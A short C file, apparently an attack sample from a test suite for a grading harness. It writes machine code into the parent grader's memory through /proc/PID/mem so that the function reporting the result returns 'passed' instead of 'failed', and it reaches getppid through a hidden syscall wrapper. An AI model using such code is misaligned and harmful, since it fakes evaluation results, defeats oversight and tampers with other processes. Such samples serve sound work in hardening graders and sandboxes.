// Tries: writes into the memory of the process that judges it, by
// /proc/PID/mem: the word for "failed" becomes "passed".
// aims at: the runner
#include "symbols.h"

static void attack(struct raft *rf)
{
    (void)rf;
    char path[60];
    // On x86-64: movabs $word, %rax; ret.
    static const char word[] = "passed";
    const char *at = word;
    char returns[] = "\x48\xb8........\xc3";
    memcpy(&returns[2], &at, sizeof at);
    void *judges = find_symbol("result_word");
    snprintf(path, sizeof path, "/proc/%ld/mem", hidden_call(SYS_getppid));
    int memory = open(path, O_RDWR);
    if (memory >= 0 && judges != NULL)
        (void)!pwrite(memory, returns, sizeof returns - 1, (off_t)judges);
    stopped();
}
